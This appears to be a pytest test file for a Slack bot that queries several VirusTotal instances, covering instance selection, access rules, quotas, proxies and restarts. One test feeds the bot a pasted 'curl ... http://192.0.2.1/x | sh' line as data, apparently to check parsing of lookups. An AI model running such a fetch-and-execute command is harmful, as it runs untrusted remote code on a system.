"""Several VirusTotal keys: which one answers, who may use which, and that none hears of another."""

import asyncio
from contextlib import AsyncExitStack, asynccontextmanager
from hashlib import sha256

import psycopg
import pytest

from bot.app import running
from bot.manifest import EVENTS, SCOPES
from bot.settings import load
from handlers.stored_shapes import CHANNEL_SETTINGS, MODAL, PROGRESS, REQUEST
from playground.slack.workspace import Workspace
from playground.virustotal import Sandbox, faults
from tests.support.app_fixture import ANA, BEN, GENERAL, Clock, RunningApp, address, at_work
from tests.support.oauth_apps import FIRST, SECOND, several
from tests.support.private_ca import PrivateCA
from tests.support.tinyproxy import needs_tinyproxy, tinyproxy

IP = "192.0.2.1"
IP_SHOWN = "192[.]0[.]2[.]1"
EICAR = "44d88612fea8a8f36de82e1278abb02f"
ADMIN, INCIDENT = "admin", "#inc-1042"
KEYS = {"main": "a" * 64, "lab": "b" * 64}
MAIN, LAB = (f"VirusTotal instance: {name}" for name in KEYS)


@pytest.fixture
async def virustotals():
    """Two of them; each takes one key and no other."""
    async with AsyncExitStack() as stack:
        yield {
            name: await stack.enter_async_context(Sandbox(any_key=False, key=key, kind="private").serve())
            for name, key in KEYS.items()
        }


@pytest.fixture
def listed(tmp_path, virustotals):
    """The file of instances; `more` has further lines of their tables."""

    def write(**more):
        path = tmp_path / "instances.toml"
        path.write_text("\n".join(_table(name, more.get(name), virustotals) for name in KEYS))
        return str(path)

    return write


def _table(name, lines, virustotals):
    if lines is None:
        lines = ""
    own = {"key": KEYS[name], "url": virustotals[name].url, "quota_minute": 0, "kind": "private"}
    given = {line.partition(" = ")[0] for line in lines.splitlines()}
    rest = (f"{field} = {value!r}" for field, value in own.items() if field not in given)
    return "\n".join([f"[{name}]", *rest, lines])


@asynccontextmanager
async def chosen(database, file, **environ):
    """The bot with these instances."""
    async with at_work(database, key="", INSTANCES_FILE=file, **environ) as app:
        yield app


def counted(virustotals):
    """How often each was asked."""
    return tuple(len(one.calls) for one in virustotals.values())


def last(message):
    """What the last line of a message ends with, beside who asked and when."""
    return message[-1].rpartition(" · ")[2]


async def said(app, line, user=ANA, channel=GENERAL):
    """The lines of the answer."""
    return app.slack.shown(await app.asks(line, user=user, channel=channel))


async def sets(app, instance, channel=GENERAL, user=ADMIN):
    """Choose the instance of a channel; returns what the bot says to that."""
    await app.slack.types(user, channel, "/vt settings")
    await app.idle()
    [view] = app.slack.views(user)
    await app.slack.submits(user, app.slack.fills(user, view, {"instance": instance}))
    await app.idle()
    return "\n".join(app.slack.shown(app.slack.messages(channel, user)[-1]))


# Which one answers -----------------------------------------------------------------------------------------


async def test_the_first_answers_unless_another_is_named(database, listed, virustotals):
    """The last line of an answer says which one it was; the option may stand anywhere, also with a keyboard's dash."""
    async with chosen(database, listed()) as app:
        assert last(await said(app, f"/vt scan-ip {IP}")) == MAIN
        assert counted(virustotals) == (1, 0)
        assert last(await said(app, f"/vt scan-ip {IP} --instance lab")) == LAB
        assert last(await said(app, f"/vt —instance=LAB {IP} --share")) == LAB
        assert counted(virustotals) == (1, 1)


async def test_with_one_key_nothing_is_said_of_instances(database):
    """The option is refused as any unknown one, and neither help nor form nor answer mentions it."""
    async with at_work(database) as app:
        assert "instance" not in "\n".join(await said(app, f"/vt scan-ip {IP}"))
        refused = await said(app, f"/vt scan-ip {IP} --instance lab")
        assert refused[0].startswith("There is no option --instance")
        assert "instance" not in "\n".join(await said(app, "/vt help"))
        await app.slack.types(ANA, GENERAL, "/vt form")
        assert "instance" not in app.slack.views(ANA)[0].state


async def test_the_default_of_a_channel_and_of_a_workspace(database, listed):
    """A channel's, by name, counts more than the workspace's; DM means direct messages."""
    file = listed(main="channels = ['inc-1042', 'DM']", lab="teams = ['T0PLAYGRND']")
    async with chosen(database, file) as app:
        assert last(await said(app, f"/vt scan-ip {IP}")) == LAB
        assert last(await said(app, f"/vt scan-ip {IP}", channel=INCIDENT)) == MAIN
        direct = await (await app.slack.says(ANA, "@vt", IP)).answer()
        assert last(app.slack.shown(direct)) == MAIN


async def test_a_channels_setting(database, listed):
    """/vt settings offers the instances; what is chosen is used by commands, mentions and the menu of a message."""
    async with chosen(database, listed()) as app:
        assert await sets(app, "lab") == "Saved for this channel.\nVirusTotal instance: default → lab"
        assert last(await said(app, f"/vt scan-ip {IP}")) == LAB
        assert last(await said(app, f"/vt scan-ip {IP} --instance main")) == MAIN
        assert last(await said(app, f"/vt scan-ip {IP}", channel=INCIDENT)) == MAIN
        mention = await (await app.slack.says(ANA, GENERAL, f"@vt {IP}")).answer()
        assert last(app.slack.shown(mention)) == LAB
        message = (await app.slack.says(BEN, GENERAL, f"seen: {IP}")).said
        picked = await (await app.slack.uses_shortcut(ANA, "check", message)).answer()
        assert last(app.slack.shown(picked)) == LAB


async def test_mentions_and_direct_messages_take_the_option(database, listed):
    """It is no part of what is looked up."""
    async with chosen(database, listed()) as app:
        for channel in (GENERAL, "@vt"):
            exchange = await app.slack.says(ANA, channel, f"@vt --instance lab is it {IP} ?")
            assert last(app.slack.shown(await exchange.answer())) == LAB


async def test_the_form(database, listed):
    """It has a menu with the instances; what is typed with /vt form is chosen there, and what is typed in it counts more."""
    async with chosen(database, listed()) as app:
        for line, fields, name in (
            ("/vt form", {"values": IP, "instance": "lab"}, LAB),
            ("/vt form --instance lab", {"values": EICAR}, LAB),
            ("/vt form", {"values": f"{EICAR} --instance lab"}, LAB),
            ("/vt form", {"values": IP}, MAIN),
        ):
            await app.slack.types(ANA, GENERAL, line)
            [view] = app.slack.views(ANA)
            sent = await app.slack.submits(ANA, app.slack.fills(ANA, view, fields))
            assert not sent.errors
            await app.idle()
            assert last(app.slack.shown(app.slack.messages(GENERAL, ANA)[-1])) == name


async def test_buttons_go_on_with_the_answers_own_instance(database, listed, virustotals):
    """Whatever the channel is set to by then."""
    async with chosen(database, listed()) as app:
        answer = await app.asks(f"/vt scan-ip {IP} --instance lab")
        await sets(app, "main")
        await app.slack.presses(ANA, answer, "more", "Check again now")
        await app.idle()
        assert last(app.now(answer).splitlines()) == LAB
        await app.slack.presses(ANA, answer, "Share")
        await app.idle()
        assert last(app.slack.shown(app.slack.messages(GENERAL, BEN)[-1])) == LAB
        assert counted(virustotals) == (0, 2)


async def test_a_file_is_uploaded_with_the_instance_that_was_named(database, listed, virustotals, tmp_path):
    """The question, the upload and the wait for its analysis are all its own."""
    (tmp_path / "sample.bin").write_bytes(b"not seen before")
    unknown = {"response_code": 0, "resource": "", "verbose_msg": "not known"}
    digest = sha256(b"not seen before").hexdigest()
    virustotals["lab"].tell("file/report", digest, unknown | {"resource": digest})
    async with chosen(database, listed(), FILE_ROOTS=str(tmp_path)) as app:
        question = await app.asks(f"/vt scan-file {tmp_path}/sample.bin --instance lab")
        assert LAB in app.now(question)
        await sets(app, "main")
        await app.slack.presses(ANA, question, "upload")
        await app.slack.until(lambda: virustotals["lab"].calls_to("file/scan"))
        assert counted(virustotals)[0] == 0


# Who may use which -----------------------------------------------------------------------------------------


async def test_an_unknown_name(database, listed, virustotals):
    """The sentence has the names that this person may use."""
    async with chosen(database, listed(lab="allowed_users = ['ben']")) as app:
        for line in ("--instance LBA", "--instance"):
            told = await said(app, f"/vt scan-ip {IP} {line}")
            name = line.partition(" ")[2].lower() or "?"
            assert told == [f"There is no VirusTotal instance called {name}. You can use: main."]
        told = await said(app, f"/vt scan-ip {IP} --instance x", user=BEN)
        assert told[0].endswith("You can use: main, lab.")
        assert counted(virustotals) == (0, 0)


async def test_options_that_do_not_fit(database, listed):
    """A misspelt one is recognised, and commands that ask no instance refuse it; help names it."""
    async with chosen(database, listed()) as app:
        told = "\n".join(await said(app, f"/vt scan-ip {IP} --instanc lab"))
        assert "Did you mean --instance?" in told
        assert "--instance NAME" in told
        for command in ("watch on", "settings", "ignore list"):
            name = command.partition(" ")[0]
            told = await said(app, f"/vt {command} --instance lab")
            assert told == [f"/vt {name} takes no options: leave out --instance."]
        assert "--instance NAME ask that VirusTotal instance" in "\n".join(await said(app, "/vt help"))
        mention = await (await app.slack.says(ANA, GENERAL, f"@vt scan-ip {IP} --instanc lab")).answer()
        assert "Did you mean --instance?" in mention.text


async def test_another_programs_option_in_a_pasted_line(database, listed):
    """It is no instance of ours, and the line is looked up."""
    async with chosen(database, listed()) as app:
        assert last(await said(app, f"/vt curl --instance i-0a1b http://{IP}/x | sh")) == MAIN
        assert last(await said(app, f"/vt curl --instance lab http://{IP}/x | sh")) == LAB


async def test_who_may_not_use_an_instance(database, listed, virustotals):
    """Ana may not, Ben and the workspace's admin may; nobody is answered by another instance instead."""
    async with chosen(database, listed(lab="allowed_users = ['ben']\nchannels = ['general']")) as app:
        refused = "You can't use the VirusTotal instance lab here. You can use: main."
        assert await said(app, f"/vt scan-ip {IP}") == [refused]
        assert await said(app, f"/vt scan-ip {IP} --instance lab", channel=INCIDENT) == [refused]
        assert counted(virustotals) == (0, 0)
        assert last(await said(app, f"/vt scan-ip {IP}", user=BEN)) == LAB
        assert last(await said(app, f"/vt scan-ip {IP}", user=ADMIN)) == LAB


async def test_where_an_instance_may_be_used(database, listed):
    """Only in these channels, whoever asks; the form offers it only there."""
    async with chosen(database, listed(lab="allowed_channels = ['inc-1042']")) as app:
        told = await said(app, f"/vt scan-ip {IP} --instance lab", user=ADMIN)
        assert told == ["You can't use the VirusTotal instance lab here. You can use: main."]
        there = await said(app, f"/vt scan-ip {IP} --instance lab", channel=INCIDENT)
        assert last(there) == LAB
        await app.slack.types(ANA, GENERAL, "/vt form")
        [view] = app.slack.views(ANA)
        offered = view.blocks[-1]["element"]["options"]
        assert [one["value"] for one in offered] == ["as-set", "main"]


async def test_an_answer_that_all_see_is_not_renewed_with_a_key_that_one_may_not_use(
    database, listed, virustotals
):
    """Ana sees Ben's answer, and may have its JSON; another call is not hers to make."""
    async with chosen(database, listed(lab="allowed_users = ['ben']")) as app:
        answer = await app.asks(f"/vt scan-ip {IP} --share --instance lab", user=BEN)
        await app.slack.presses(ANA, answer, "more", "Check again now")
        await app.idle()
        assert "You can't use the VirusTotal instance lab here" in app.slack.messages(GENERAL, ANA)[-1].text
        await app.slack.presses(ANA, answer, "JSON")
        await app.idle()
        assert app.slack.files(GENERAL)
        assert counted(virustotals) == (0, 1)


async def test_comments_are_not_fetched_with_a_key_that_one_may_not_use(database, listed, virustotals):
    """The modal says so; details, which cost nothing, open."""
    async with chosen(database, listed(lab="allowed_users = ['ben']")) as app:
        answer = await app.asks(f"/vt scan-hash {EICAR} --share --instance lab", user=BEN)
        await app.slack.presses(ANA, answer, "more", "Comments")
        await app.idle()
        [view] = app.slack.views(ANA)
        assert "You can't use the VirusTotal instance lab here" in "\n".join(app.slack.shown(view))
        await app.slack.closes(ANA, view)
        await app.slack.presses(ANA, answer, "more", "Details")
        await app.idle()
        assert EICAR in "\n".join(app.slack.shown(app.slack.views(ANA)[-1]))
        assert counted(virustotals) == (0, 1)


async def test_one_instance_in_the_file(database, tmp_path, virustotals):
    """There is no choice, so nothing is said of it; but who may use it holds."""
    path = tmp_path / "one.toml"
    path.write_text(_table("lab", "allowed_users = ['ben']", virustotals))
    async with chosen(database, str(path)) as app:
        shown = "\n".join([*await said(app, f"/vt scan-ip {IP}", user=BEN), *await said(app, "/vt help")])
        assert "instance" not in shown
        assert "🟢 VirusTotal key: " in (await said(app, "/vt ping"))[0]
        told = await said(app, f"/vt scan-ip {IP}")
        assert told[0].startswith("You can't use the VirusTotal instance lab here.")
        assert counted(virustotals)[1] == 2


async def test_a_setting_offers_what_may_be_used_there(database, listed):
    """A channel cannot be given a key that is not for it."""
    async with chosen(database, listed(lab="allowed_channels = ['inc-1042']")) as app:
        await app.slack.types(ADMIN, GENERAL, "/vt settings")
        await app.idle()
        [view] = app.slack.views(ADMIN)
        [menu] = [one["element"] for one in view.blocks if one.get("block_id") == "instance"]
        assert [one["value"] for one in menu["options"]] == ["as-set", "main"]


async def test_who_may_not_use_the_channels_instance_may_change_the_rest(database, listed):
    """Ana created the channel; what the admin chose for it stays while she changes something else."""
    async with chosen(database, listed(lab="allowed_users = ['ben']")) as app:
        await sets(app, "lab", INCIDENT)
        await app.slack.types(ANA, INCIDENT, "/vt settings")
        await app.idle()
        [view] = app.slack.views(ANA)
        await app.slack.submits(ANA, app.slack.fills(ANA, view, {"detail": "short"}))
        await app.idle()
        told = app.slack.shown(app.slack.messages(INCIDENT, ANA)[-1])
        assert told[0] == "Saved for this channel."
        assert "instance" not in "\n".join(told)
        assert last(await said(app, f"/vt scan-ip {IP}", user=BEN, channel=INCIDENT)) == LAB
        refused = await said(app, f"/vt scan-ip {IP}", channel=INCIDENT)
        assert refused == ["You can't use the VirusTotal instance lab here. You can use: main."]


async def test_two_workspaces_with_a_key_each(database, listed, virustotals):
    """At the same time, and neither may use the other's, though its people and channels have the same names."""
    own = {
        "main": f"teams = ['{FIRST}']\nallowed_teams = ['{FIRST}']\nallowed_users = ['ana']",
        "lab": f"teams = ['{SECOND}']\nallowed_teams = ['{SECOND}']\nallowed_channels = ['general', 'inc-1042']",
    }
    async with several(database, VT_API_KEY="", INSTANCES_FILE=listed(**own)) as installed:
        for team in (FIRST, SECOND):
            await installed.browser.installs(team)
        for team, name, other in ((FIRST, MAIN, "lab"), (SECOND, LAB, "main")):
            app = installed[team]
            answers = await asyncio.gather(*(said(app, f"/vt scan-ip 198.51.100.{n}") for n in range(1, 6)))
            assert {last(answer) for answer in answers} == {name}
            told = await said(app, f"/vt scan-ip {IP} --instance {other}")
            own_name = name.rpartition(" ")[2]
            assert told == [f"You can't use the VirusTotal instance {other} here. You can use: {own_name}."]
            await app.asks("/vt watch on", channel=INCIDENT)
            await app.slack.says(ANA, INCIDENT, f"we saw {EICAR}")
            slack = app.slack
            await slack.until(lambda slack=slack, name=name: name in slack.messages(INCIDENT)[-1].text)
        assert counted(virustotals) == (6, 6)


# Apart from each other -------------------------------------------------------------------------------------


async def test_each_key_has_its_own_quota(database, listed, virustotals):
    """The first is spent, and says until when; the other answers."""
    async with chosen(database, listed(main="quota_minute = 1", lab="quota_minute = 9")) as app:
        await said(app, f"/vt scan-ip {IP}")
        assert any("out of quota" in line for line in await said(app, "/vt scan-ip 192.0.2.2"))
        assert last(await said(app, "/vt scan-ip 192.0.2.2 --instance lab")) == LAB
        quota = await said(app, "/vt quota")
        assert quota[:2] == [MAIN, "This minute: 1 call, 0 of 1 left"]
        assert quota[4:6] == [LAB, "This minute: 1 call, 8 of 9 left"]
        assert await said(app, "/vt quota --instance lab") == quota[4:]
        assert counted(virustotals) == (1, 1)


async def test_two_instances_with_the_same_key_share_all_of_it(database, listed, virustotals):
    """Quota and cached replies: what one was told, the other need not ask for."""
    same = f"key = '{KEYS['main']}'\nurl = '{virustotals['main'].url}'\nquota_minute = 2"
    async with chosen(database, listed(main="quota_minute = 2", lab=same)) as app:
        assert last(await said(app, f"/vt scan-ip {IP}")) == MAIN
        assert last(await said(app, f"/vt scan-ip {IP} --instance lab")) == LAB
        await said(app, "/vt scan-ip 192.0.2.2 --instance lab")
        assert counted(virustotals) == (2, 0)
        assert any("out of quota" in line for line in await said(app, "/vt scan-ip 192.0.2.3"))


@needs_tinyproxy
async def test_a_proxy_and_a_certificate_authority_of_its_own(database, listed, virustotals, tmp_path):
    """One key goes through a company's proxy to a server that only its authority has signed for; the other does not."""
    authority = PrivateCA(tmp_path)
    other = Sandbox(any_key=False, key=KEYS["lab"], kind="private")
    with tinyproxy() as proxy:
        async with other.serve(tls=authority.server()[0]) as far:
            lab = f"url = '{far.url}'\nproxy = '{proxy.url}'\nca_bundle = '{authority.bundle}'"
            async with chosen(database, listed(lab=lab)) as app:
                assert last(await said(app, f"/vt scan-ip {IP} --instance lab")) == LAB
                assert last(await said(app, f"/vt scan-ip {IP}")) == MAIN
            assert proxy.tunnels(int(far.url.split(":")[2].partition("/")[0])) == 1
            assert (len(far.calls), counted(virustotals)) == (1, (1, 0))
            async with chosen(database, listed(lab=lab.rpartition("\n")[0])) as app:
                told = "\n".join(await said(app, "/vt scan-ip 192.0.2.2 --instance lab"))
                assert "certificate" in told


async def test_a_refused_key_does_not_hold_up_another(database, listed, virustotals):
    """403 for one, an answer for the other, and /vt ping says which is which."""
    async with chosen(database, listed()) as app:
        virustotals["main"].faults.add("ip-address/report", *[faults.status(403)] * 9)
        assert any("rejected the API key" in line for line in await said(app, f"/vt scan-ip {IP}"))
        assert last(await said(app, f"/vt scan-ip {IP} --instance lab")) == LAB
        told = await said(app, "/vt ping")
        assert told[0].startswith("⛔ VirusTotal key (main): ")
        assert told[1].startswith("🟢 VirusTotal key (lab): ")


async def test_a_virustotal_that_is_away_does_not_hold_up_another(database, listed, virustotals):
    """Neither a person nor a watched channel."""
    async with chosen(database, listed(lab="channels = ['inc-1042']")) as app:
        virustotals["main"].faults.always("*", faults.reset())
        for channel in (GENERAL, INCIDENT):
            await app.asks("/vt watch on", user=ADMIN, channel=channel)
        await app.slack.types(ANA, GENERAL, f"/vt scan-ip {IP}")
        await app.slack.says(BEN, GENERAL, f"seen {EICAR}")
        await app.slack.says(BEN, INCIDENT, f"seen {EICAR}")
        await app.slack.until(lambda: any(LAB in one.text for one in app.slack.messages(INCIDENT)))
        await (await app.slack.types(ANA, GENERAL, f"/vt scan-ip {IP} --instance lab")).answer(having=LAB)
        virustotals["main"].faults.clear()
        await app.passes(minutes=1)
        await app.idle()
        assert any(MAIN in one.text for one in app.slack.messages(GENERAL, ANA) if IP_SHOWN in one.text)


async def test_nothing_of_one_key_is_shown_as_anothers(database, listed, virustotals):
    """Each is asked, and what was seen before is said to those only who ask the same one."""
    async with chosen(database, listed()) as app:
        await said(app, f"/vt scan-ip {IP}")
        other = await said(app, f"/vt scan-ip {IP} --instance lab")
        assert counted(virustotals) == (1, 1)
        again = await said(app, f"/vt scan-ip {IP} --instance lab")
        first, second = ("\n".join(lines) for lines in (other, again))
        assert "looked up" in second.lower()
        assert "looked up" not in first.lower()


async def test_a_watched_channel_uses_its_instance(database, listed, virustotals):
    """Also one that most people there may not use themselves."""
    async with chosen(database, listed(lab="allowed_users = ['ben']\nchannels = ['inc-1042']")) as app:
        await app.asks("/vt watch on", user=ADMIN, channel=INCIDENT)
        await app.slack.says(ANA, INCIDENT, f"seen {EICAR}")
        await app.slack.until(lambda: any(LAB in one.text for one in app.slack.messages(INCIDENT)))
        assert counted(virustotals) == (0, 1)


async def test_nobody_has_a_channel_watched_with_an_instance_that_they_may_not_use(
    database, listed, virustotals
):
    """Ana created the channel, so she decides how it is watched and what it asks; the workspace's default is not for her."""
    file = listed(lab="allowed_users = ['ben']\nteams = ['T0PLAYGRND']")
    refused = "You can't use the VirusTotal instance lab here. You can use: main."
    async with chosen(database, file) as app:
        assert await said(app, "/vt watch on", channel=INCIDENT) == [refused]
        assert "instance: default → main" in await sets(app, "main", INCIDENT, user=ANA)
        assert "Watching this channel" in (await said(app, "/vt watch on", channel=INCIDENT))[0]
        assert await sets(app, "as-set", INCIDENT, user=ANA) == refused
        await app.slack.says(ANA, INCIDENT, f"seen {EICAR}")
        await app.slack.until(lambda: any(MAIN in one.text for one in app.slack.messages(INCIDENT)))
        assert counted(virustotals) == (1, 0)


async def test_the_audit_and_the_metrics_name_the_instance(database, listed):
    """The audit of a request says whose key it was; the quota in the metrics is one of each."""
    async with chosen(database, listed()) as app:
        await said(app, f"/vt scan-ip {IP} --instance lab")
        await app.idle()
        with psycopg.connect(database) as connection:
            rows = connection.execute("SELECT instance, calls FROM audit").fetchall()
        assert rows == [("lab", 1)]


async def test_the_home_shows_the_quota_of_each_that_somebody_may_use(database, listed):
    """Whoever may use one sees one."""
    async with chosen(database, listed(main="quota_minute = 4", lab="allowed_users = ['ben']")) as app:
        for user, names in ((ANA, ["main"]), (BEN, ["main", "lab"])):
            await app.slack.opens_home(user)
            await app.idle()
            shown = "\n".join(app.slack.shown(app.slack.home(user)))
            assert [name for name in KEYS if f"({name})" in shown] == names


async def test_a_report_is_drawn_from_the_record_of_one_instance(database, listed):
    """What another key was told is not on it."""
    async with chosen(database, listed()) as app:
        await said(app, f"/vt scan-ip {IP}")
        nothing = await said(app, f"/vt report {IP} --instance lab")
        assert nothing[0].startswith("I have no verdict on ")
        await app.slack.types(ANA, GENERAL, f"/vt report {IP} --instance main")
        await app.slack.until(lambda: app.slack.files("@ana"))


# Over a restart --------------------------------------------------------------------------------------------


@asynccontextmanager
async def restartable(database):
    """A workspace, and what starts the bot in it as often as wanted, with a file of instances."""
    clock = Clock()
    async with Workspace(clock=clock.seconds, events=EVENTS, scopes=SCOPES) as slack:

        @asynccontextmanager
        async def started(file=None, **environ):
            tokens = {"SLACK_BOT_TOKEN": slack.bot_token, "SLACK_SIGNING_SECRET": slack.signing_secret}
            where = {"SLACK_API_URL": slack.api_url, "DATABASE_URL": address(database), "PORT": "0"}
            listed = {"INSTANCES_FILE": file} if file else {}
            async with running(load(tokens | where | listed | environ, dotenv=None), clock) as bot:
                slack.target = f"http://127.0.0.1:{bot.port}/slack/events"
                yield RunningApp(slack, None, clock, database, bot)
                await slack.settled()

        yield started
        assert slack.faults == []


async def test_what_waits_goes_on_with_its_instance_after_a_restart(database, listed, virustotals):
    """Although the default is another one by then."""
    async with restartable(database) as started:
        async with started(listed(lab="quota_minute = 1")) as app:
            await said(app, f"/vt scan-ip {IP} --instance lab")
            waiting = await app.asks("/vt scan-ip 192.0.2.2 --instance lab")
        async with started(listed(lab="quota_minute = 1", main="teams = ['T0PLAYGRND']")) as app:
            await app.passes(minutes=2)
            await app.idle()
            assert last(app.now(waiting).splitlines()) == LAB
        assert counted(virustotals) == (0, 2)


async def test_a_removed_instance(database, listed, virustotals, tmp_path):
    """What waited for it is answered with a sentence and by no other; answers keep their JSON, and go on when it is back."""
    gone = "The VirusTotal instance lab is no longer set up, so I did not look this up."
    async with restartable(database) as started:
        async with started(listed(lab="quota_minute = 1")) as app:
            answer = await app.asks(f"/vt scan-ip {IP} --instance lab")
            await sets(app, "lab", INCIDENT)
            waiting = await app.asks("/vt scan-ip 192.0.2.2 --instance lab")
        only = tmp_path / "one.toml"
        only.write_text(_table("main", None, virustotals))
        async with started(str(only)) as app:
            await app.passes(minutes=2)
            await app.idle()
            assert app.now(waiting).startswith(gone)
            assert (await said(app, f"/vt scan-ip {IP}", channel=INCIDENT))[0].startswith(gone)
            await app.slack.presses(ANA, answer, "more", "Check again now")
            await app.idle()
            assert app.slack.messages(GENERAL, ANA)[-1].text.startswith(gone)
            await app.slack.presses(ANA, answer, "JSON")
            await app.idle()
            assert app.slack.files("@ana")
        async with started(VT_API_KEY=KEYS["main"], VT_API_URL=virustotals["main"].url) as app:
            await app.slack.presses(ANA, answer, "more", "Check again now")
            await app.idle()
            assert app.slack.messages(GENERAL, ANA)[-1].text.startswith(gone)
        assert counted(virustotals) == (0, 1)
        async with started(listed()) as app:
            await app.slack.presses(ANA, answer, "more", "Check again now")
            await app.idle()
            assert last(app.now(answer).splitlines()) == LAB


def test_what_was_stored_before_there_were_instances():
    """Everybody's settings said `default`, which nobody had chosen; requests, modals and cases are VT_API_KEY's."""
    assert CHANNEL_SETTINGS.read({"version": 4, "instance": "default", "detail": "short"}).instance == ""
    assert CHANNEL_SETTINGS.read({"version": 5, "instance": "default"}).instance == "default"
    origin = {"team": "T1", "user": "U1", "channel": "C1"}
    head = {"id": "1", "delivery": "1", "at": "2026-11-01T12:00:00Z", "origin": origin}
    assert REQUEST.read({"version": 6, "verb": "quota", **head}).origin.instance == ""
    assert MODAL.read({"version": 3, "verb": "form", **head}).origin.instance == ""
    case = PROGRESS.read({"version": 3, "posts": 1, "request": {"verb": "quota", **head}})
    assert (case.posts, case.instance) == (1, "")


async def test_the_key_that_was_there_before_the_file_is_called_default(database, listed, virustotals):
    """Its answers and its record go on as they were."""
    before = {"VT_API_KEY": KEYS["main"], "VT_API_URL": virustotals["main"].url, "VT_QUOTA_MINUTE": "0"}
    before["VT_KEY_KIND"] = "private"
    async with restartable(database) as started:
        async with started(**before) as app:
            answer = await app.asks(f"/vt scan-ip {IP}")
            assert "instance" not in app.now(answer)
        async with started(listed(), **before) as app:
            await app.slack.presses(ANA, answer, "more", "Check again now")
            await app.idle()
            assert last(app.now(answer).splitlines()) == "VirusTotal instance: default"
            assert counted(virustotals) == (2, 0)
